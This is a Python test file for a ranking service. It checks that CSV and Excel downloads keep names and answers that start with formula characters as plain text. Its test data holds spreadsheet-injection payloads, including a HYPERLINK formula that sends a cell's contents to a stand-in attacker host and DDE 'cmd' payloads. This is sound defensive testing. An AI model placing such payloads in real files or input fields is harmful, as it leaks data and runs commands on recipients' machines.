"""No download runs a formula: an enterprise's name, a village or a typed answer that
starts like one (=, +, -, @, a tab or a carriage return first) is text in every export,
CSV and Excel, of the ranking and of the answers."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from service.rankings.export import ranking_csv, ranking_xlsx
from service.rankings.rows import RankingRow
from tests.collection.test_pages import fill_complete, signed_in
from tests.factories import in_database
from tests.rankings.test_answers_export import _start, _submit

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
FORMULA_START = tuple("=+-@\t\r")


def _row(value: str) -> RankingRow:
    return RankingRow(
        rank=1,
        standing="ranked",
        enterprise_id=1,
        team_id=None,
        name=value,
        village=value,
        industry=value,
        ownership=value,
        size_band=value,
        final=90.5,
        grade="g1",
        award="a1",
        self_total=90,
        judges_score=-1.5,
        judges=5,
        trimmed=True,
        spread=3,
        disagreement=False,
        reasons=[value],
    )


def _workbook_cells(data: bytes) -> list[openpyxl.cell.Cell]:
    # Not read-only: a read-only sheet reports a formula's text, hiding its type.
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def _assert_no_formula(data: bytes, hostile: set[str]) -> None:
    cells = _workbook_cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # XML reads a bare carriage return as a line feed: either is text, not a formula.
    found = {c.value.replace("\n", "\r") for c in cells if c.data_type in ("s", "inlineStr")}
    wanted = {value.replace("\n", "\r") for value in hostile}
    assert wanted <= found, wanted - found  # kept as typed, as text


def _assert_csv_inert(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    for row in rows:
        for field in row:
            if field.startswith(FORMULA_START):
                float(field)  # only a plain number may start with "-"
    return rows


@pytest.mark.parametrize("value", HOSTILE)
def test_the_ranking_workbook_writes_every_text_as_text(value):
    with ranking_xlsx([_row(value)], {"g1": value}, {"a1": value}, value) as file:
        data = file.read()
    _assert_no_formula(data, {value})


@pytest.mark.parametrize("value", HOSTILE)
def test_the_ranking_csv_writes_no_formula(value):
    rows = _assert_csv_inert("".join(ranking_csv([_row(value)], {"g1": value}, {"a1": value})))
    assert rows[1][1] == "'" + value  # the name, with Excel's text mark


def test_every_download_of_a_campaign_keeps_hostile_text_as_text(app, world):
    from service.orgs.tables import Enterprise, Village

    name, village, remarks = HOSTILE[0], HOSTILE[3], HOSTILE[1]

    async def rename() -> None:
        await Enterprise.update({Enterprise.name: name}).where(Enterprise.id == world["own"])
        await Village.update({Village.name: village}, force=True)

    in_database(world["url"], rename)
    with signed_in(app, "chair") as chair:
        path = _start(chair, world["own"])
        fill_complete(chair, path, remarks=remarks)
        _submit(chair, path)
    with signed_in(app, "clerk") as admin:
        base = f"/admin/campaigns/{world['campaign']}"
        downloads = {what: admin.get(f"{base}/{what}") for what in (
            "rankings.csv", "rankings.xlsx", "answers.csv", "answers.xlsx",
        )}  # fmt: skip
    assert all(r.status_code == 200 for r in downloads.values())
    for what in ("rankings.csv", "answers.csv"):
        text = downloads[what].content.decode("utf-8")
        _assert_csv_inert(text)
        assert f"'{name}".replace('"', '""') in text
    assert f"'{remarks}" in downloads["answers.csv"].content.decode()
    _assert_no_formula(downloads["rankings.xlsx"].content, {name, village})
    _assert_no_formula(downloads["answers.xlsx"].content, {name, remarks})
